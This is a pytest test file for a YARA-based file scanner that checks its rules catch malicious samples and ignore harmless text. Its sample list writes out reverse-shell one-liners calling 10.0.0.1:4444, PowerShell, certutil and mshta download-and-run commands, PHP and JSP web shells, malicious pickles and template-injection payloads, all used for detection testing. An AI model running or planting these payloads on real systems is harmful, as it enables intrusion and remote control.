"""Every file is held against our rules and the site's, whatever its format."""

from __future__ import annotations

import hashlib
import re
from pathlib import Path

import pytest

from casemate.airlock import Finding, ScanLimits, admit
from casemate.airlock.inspect import inspect, yara_rules
from casemate.errors import BadInput
from tests.airlock.conftest import Arrive, Inspected, picture
from tests.airlock.test_inspect import findings

# In two pieces, so that no antivirus takes this file away.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
_DOS = b"MZ" + bytes(76) + b"This program cannot be run in DOS mode.\r\r\n$" + bytes(7) + b"PE\0\0\x64\x86"
_ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0\x3e\0\x01\0\0\0"

HITS = {
    "eicar_test_file": [EICAR],
    "windows_program_inside": [_DOS],
    "linux_program_inside": [_ELF, b"\x7fELF\x01\x02\x01" + bytes(9) + b"\0\x02\0\x08\0\0\0\x01"],
    "apple_program_inside": [b"\xcf\xfa\xed\xfe\x0c\0\0\x01\0\0\0\0\x02\0\0\0"],
    "android_or_web_program_inside": [
        b"dex\n035\0" + bytes(24) + b"\x70\0\0\0\x78\x56\x34\x12", b"\0asm\x01\0\0\0\x01\x04",
    ],
    "windows_shortcut_inside": [b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F"],
    "powershell_dropper": [
        b"PowerShell.exe -NoP -w hidden -enc " + b"SQBFAFgA" * 6,
        b"iex (New-Object Net.WebClient).DownloadString('http://x/a')",
        "powershell -e ".encode("utf-16-le") + ("SQBFAFgA" * 6).encode("utf-16-le"),
    ],
    "vba_dropper": [
        b'Sub AutoOpen()\r\n Set s = CreateObject("WScript.Shell")',
        b"Sub Workbook_Open()\n x = Shell (a)",
    ],
    "system_tool_as_dropper": [
        b"certutil -urlcache -split -f http://x/a.exe a.exe", b"bitsadmin /transfer j http://x/a c:\\a",
        b"mshta http://x/a.hta", b"regsvr32 /s /u /i:http://x/a.sct scrobj.dll", b'rundll32 javascript:"\\..\\mshtml"',
    ],
    "web_shell": [
        b"<?php eval(base64_decode($_POST['x']));", b"<?php $_GET['f']($_POST['a']);",
        b'Runtime.getRuntime().exec(request.getParameter("c"))', b'<%eval request("cmd")%>',
    ],
    "reverse_shell": [
        b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", b"exec 5<>/dev/tcp/10.0.0.1/4444", b"nc 10.0.0.1 4444 -e /bin/sh",
        b"rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
        b"perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec(\"/bin/sh -i\");'",
        b"os.dup2(s.fileno(),0); subprocess.call(['/bin/sh','-i'])",
    ],
    "pickle_that_calls_the_system": [
        b"cos\nsystem\n(S'id'\ntR.", b"\x80\x04\x8c\x08builtins\x94\x8c\x04eval\x94\x93", b"cposix\nsystem\n",
    ],
    "python_that_hides": [
        b"exec(__import__('base64').b64decode('aW1w'))", b"__import__('os').system('id')", b"eval(zlib.decompress(x))",
        b"exec(urllib.request.urlopen('http://x').read())",
    ],
    "template_that_climbs": [
        b"{{ ''.__class__.__mro__[1].__subclasses__() }}", b"{% if x.__init__.__globals__ %}",
        b"{{ lipsum.__globals__['os'].popen('id').read() }}",
    ],
    "keras_layer_with_code": [b'{"class_name": "Lambda", "config": {"function": ["4wEAAAAAAAAAAAAAAAEAAAAC", null]}}'],
}  # fmt: skip
HARMLESS = [
    b"MZ is how Windows programs begin. This program cannot be run in DOS mode is what they say.",
    b"\x7fELF and then nothing of the kind" + bytes(40),
    b"Use powershell -ExecutionPolicy Bypass, said the guide; it was wrong. Download with New-Object Net.WebClient.",
    b"Sub AutoOpen() is a macro's name. A shell is a shell.",
    b"certutil lists certificates: certutil -store my",
    b"<?php echo htmlspecialchars($_POST['name']);",
    b"nc listens; bash -i is interactive; /dev/tcp is a feature of bash.",
    b"import base64, zlib\nmodel.eval()\nos.system is discouraged",
    b"{{ messages[0]['content'] }}{% for m in messages %}{{ m.role }}{% endfor %}",
    b'{"class_name": "Dense", "config": {"units": 4}}',
    b"\x80\x04\x95\x8c\x05numpy\x94\x8c\x05dtype\x94\x93",
]


@pytest.fixture(autouse=True)
def our_rules_only() -> None:
    """Whatever another test prepared in this process."""
    yara_rules.prepare("")


def scan(tmp_path: Path, data: bytes) -> list[Finding]:
    file = tmp_path / "file"
    file.write_bytes(data)
    return yara_rules.scan(file, "text", ScanLimits())


def test_each_of_our_rules_has_a_description_and_an_example_here() -> None:
    text = yara_rules.own_rules()
    names = re.findall(r"^rule (\w+)", text, re.MULTILINE)
    assert sorted(names) == sorted(HITS)
    assert text.count("description = ") == len(names)


@pytest.mark.parametrize("rule", HITS)
def test_each_rule_matches_its_examples_at_their_place_and_no_other_rule_does(rule: str, tmp_path: Path) -> None:
    for data in HITS[rule]:
        (finding,) = scan(tmp_path, b"\n" * 1000 + data + b"\n")
        assert finding.expected == f"no match of the rule {rule}"
        assert re.fullmatch(r".+, at byte (9\d\d|1[0-9]{3})", finding.found)
        assert not finding.note


@pytest.mark.parametrize("data", HARMLESS, ids=range(len(HARMLESS)))
def test_what_only_speaks_of_such_things_matches_no_rule(data: bytes, tmp_path: Path) -> None:
    assert scan(tmp_path, data) == []


def test_the_test_file_and_a_program_in_a_picture_are_refused_by_inspection(
    arrive: Arrive, inspected: Inspected
) -> None:
    report = inspected(arrive({"e.txt": EICAR, "p.png": picture("PNG") + _ELF, "ok.txt": b"fine", "no": b"\1" + EICAR}))
    found = findings(report)
    assert found["e.txt"] == (
        "expected no match of the rule eicar_test_file, found the EICAR test file, which stands for a virus, at byte 0"
    )
    assert "found a Linux program inside" in found["p.png"]
    assert "ok.txt" not in found
    assert "EICAR" not in found["no"], "a type that is not allowed is not read"
    assert {f.path: f.scanners[-1] for f in report.files if f.path != "no"} == dict.fromkeys(
        ("e.txt", "ok.txt", "p.png"), "yara_rules"
    )


SITE = """
rule codename {
    meta: description = "a code name of the site"
    strings: $a = "OPERATION NIGHTFALL"
    condition: $a
}
rule chatty { meta: note = true condition: filesize < 100 }
"""


def test_rules_of_the_site_are_applied_and_their_digest_is_in_the_report(arrive: Arrive, inspected: Inspected) -> None:
    report = inspected(arrive({"a.txt": b"see OPERATION NIGHTFALL", "b.txt": b"x"}), rules=SITE)
    by_path = {f.path: f for f in report.files}
    assert findings(report)["a.txt"].startswith(
        "expected no match of the rule codename, found a code name of the site, at byte 4"
    )
    assert by_path["b.txt"].clean
    assert by_path["b.txt"].findings == (Finding("yara", "no match of the rule chatty", "a match", note=True),)
    versions = report.scanners["yara_rules"]
    assert versions["rules of site"] == f"sha256:{hashlib.sha256(SITE.encode()).hexdigest()}"
    assert versions["rules of casemate"] == f"sha256:{hashlib.sha256(yara_rules.own_rules().encode()).hexdigest()}"
    assert versions.keys() == {"yara", "yara_rules", "rules of casemate", "rules of site"}


def test_notes_of_a_rule_refuse_where_the_caller_says_so(arrive: Arrive, inspected: Inspected) -> None:
    folder = arrive({"b.txt": b"x"})
    assert inspected(folder, rules=SITE, refuse=frozenset({"secret"})).clean
    report = inspected(folder, rules=SITE, refuse=frozenset({"yara"}))
    assert findings(report) == {"b.txt": "expected no match of the rule chatty, found a match"}


@pytest.mark.parametrize(
    ("rules", "found"),
    [
        ("rule a {\n condition: tru\n}", r"error\[E009\]: unknown identifier `tru` --> line:2:13"),
        ('include "/etc/passwd"', r"error\[E044\]: include statements not allowed --> line:1:1"),
        ("rule a { condition: true }\nrule a { condition: true }", r"error\[E012\]: duplicate rule `a` --> line:2:6"),
    ],
)
def test_rules_that_do_not_compile_are_bad_input_naming_the_line(
    arrive: Arrive, inspected: Inspected, rules: str, found: str
) -> None:
    with pytest.raises(BadInput, match=rf"rules of the site: expected YARA rules that compile, found {found}"):
        inspected(arrive({"a.txt": b"x"}), rules=rules)


def test_rules_too_long_for_a_message_are_bad_input(arrive: Arrive, inspected: Inspected) -> None:
    with pytest.raises(BadInput, match=r"rules of the site: expected at most 524288 bytes as JSON, found \d+"):
        inspected(arrive({"a.txt": b"x"}), rules="//" + "x" * 600_000)


def test_large_files_are_read_in_windows_that_overlap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(yara_rules, "WINDOW_BYTES", 1 << 16)
    monkeypatch.setattr(yara_rules, "OVERLAP_BYTES", 1 << 12)
    for at in (0, (1 << 16) - 10, (1 << 16) - (1 << 12) - 5, 250_000):
        data = bytearray(b"-" * 300_000)
        data[at : at + len(EICAR)] = EICAR
        (finding,) = scan(tmp_path, bytes(data))
        assert finding.found.endswith(f", at byte {at}")
    assert scan(tmp_path, b"-" * 300_000) == []
    assert scan(tmp_path, b"") == []


def test_a_rule_without_end_refuses_the_file(tmp_path: Path) -> None:
    yara_rules.prepare("rule slow { condition: for all i in (0..1000000000000): (uint8(i % filesize) != 1) }")
    (tmp_path / "file").write_bytes(b"x" * 100)
    (finding,) = yara_rules.scan(tmp_path / "file", "text", ScanLimits(time_s=2))
    assert finding == Finding("yara", "rules that end within 1 s", "no end")


def test_real_data_matches_none_of_our_rules(real_data: object, tmp_path: Path) -> None:
    for name in ("text_redteam", "text_fr_cnil", "imagery_aerial_cars", "speech_fr_gcompris"):
        for file in sorted(real_data(name).rglob("*"))[:200]:  # type: ignore[operator]
            if file.is_file():
                assert yara_rules.scan(file, "any", ScanLimits()) == [], file


def test_a_quarantine_is_left_as_it_was(arrive: Arrive, tmp_path: Path) -> None:
    with admit(arrive({"a.txt": EICAR}), tmp_path / "q") as admitted:
        inspect(admitted, limits=ScanLimits(workers=1))
        assert [p.name for p in admitted.folder.parent.iterdir()] in (["files", "lock"], ["lock", "files"])
